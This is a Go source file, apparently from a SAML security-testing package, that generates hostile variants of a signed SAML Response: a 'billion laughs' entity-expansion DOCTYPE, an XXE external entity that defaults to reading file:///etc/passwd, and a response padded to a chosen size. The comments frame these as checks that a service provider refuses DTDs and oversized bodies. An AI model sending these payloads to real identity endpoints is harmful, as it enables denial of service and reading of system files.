package samlattack

import (
	"bytes"
	"errors"
	"fmt"
	"strings"

	"github.com/beevik/etree"
)

// ErrTooSmall: Oversized was asked for fewer bytes than the document
// already has.
var ErrTooSmall = errors.New("samlattack: the size is below the document's")

// The entity documents: a SAML Response is hostile XML, and an SP must
// refuse any DOCTYPE before it expands or fetches anything. Both documents
// keep the genuine Response whole and reference the entity from the
// NameID, after its text, so that a parser that honours the DTD expands it
// while it reads the identity.

// entityRef stands for the entity reference in the serialized document
// until it is written in place: etree would escape the ampersand. A
// private-use character cannot occur in the IdP's NameID by accident.
const entityRef = "\uE000samlattack-entity\uE000"

// BillionLaughs returns the genuine Response with the classic
// entity-expansion DOCTYPE ("billion laughs"): ten levels of entities, each
// ten of the level below, so that &lol9; expands to 10^9 copies of "lol",
// about 3 GB. &lol9; follows the text of the first NameID.
//
// Go's encoding/xml does not expand entities of a DTD: it returns the
// DOCTYPE as a Directive token and then stops at &lol9; as an unknown
// entity (strict mode) or passes it through as text (Strict false). An SP
// that hands the document to libxml2, a Java or a .NET parser with DTDs on
// is another matter; every SP should refuse the Directive outright.
func BillionLaughs(signed []byte) ([]byte, error) {
	var dtd strings.Builder
	dtd.WriteString(`<!ENTITY lol "lol">`)
	for i := 1; i <= 9; i++ {
		prev := "lol"
		if i > 1 {
			prev = fmt.Sprintf("lol%d", i-1)
		}
		fmt.Fprintf(&dtd, "\n  <!ENTITY lol%d \"%s\">", i, strings.Repeat("&"+prev+";", 10))
	}
	return withDTD(signed, dtd.String(), "&lol9;")
}

// ExternalEntity returns the genuine Response with an external entity
// (XXE): <!ENTITY xxe SYSTEM "systemID">, referenced as &xxe; after the
// text of the first NameID. A parser that resolves external entities reads
// the file or fetches the URL, and may show its content as the user's
// NameID. systemID defaults to file:///etc/passwd; point it at a local
// test server to see whether the SP fetches. It must not contain a double
// quote.
func ExternalEntity(signed []byte, systemID string) ([]byte, error) {
	if systemID == "" {
		systemID = "file:///etc/passwd"
	}
	if strings.ContainsAny(systemID, "\"<>") {
		return nil, fmt.Errorf("samlattack: system ID %q: quotes and angle brackets cannot be in a SYSTEM literal here", systemID)
	}
	return withDTD(signed, `<!ENTITY xxe SYSTEM "`+systemID+`">`, "&xxe;")
}

// withDTD puts a DOCTYPE with the internal subset dtd before the root, and
// ref after the text of the first NameID.
func withDTD(signed []byte, dtd, ref string) ([]byte, error) {
	doc, root, err := parseResponse(signed)
	if err != nil {
		return nil, err
	}
	var nameID *etree.Element
	for _, as := range assertions(root) {
		if ids := nameIDs(as); len(ids) > 0 {
			nameID = ids[0]
			break
		}
	}
	if nameID == nil {
		return nil, ErrNoIdentity
	}
	nameID.CreateText(entityRef)
	doc.InsertChildAt(root.Index(), etree.NewDirective("DOCTYPE "+root.FullTag()+" [\n  "+dtd+"\n]"))
	b, err := write(doc)
	if err != nil {
		return nil, err
	}
	return bytes.Replace(b, []byte(entityRef), []byte(ref), 1), nil
}

// Oversized returns the genuine Response padded to exactly size bytes, the
// size of the XML document (its base64 form, the SAMLResponse parameter,
// is a third larger). The padding is one comment, the Response's last
// child: a parser must read all of it, and since canonicalization drops
// comments every signature still verifies. An SP should refuse the body by
// its size before it parses it. Oversized returns ErrTooSmall when size is
// below the length of the document with an empty comment.
func Oversized(signed []byte, size int) ([]byte, error) {
	doc, root, err := parseResponse(signed)
	if err != nil {
		return nil, err
	}
	pad := root.CreateComment("")
	b, err := write(doc)
	if err != nil {
		return nil, err
	}
	if size < len(b) {
		return nil, fmt.Errorf("%w: %d < %d", ErrTooSmall, size, len(b))
	}
	// "A" keeps the comment legal (no "--") and takes one byte a character.
	pad.Data = strings.Repeat("A", size-len(b))
	return write(doc)
}
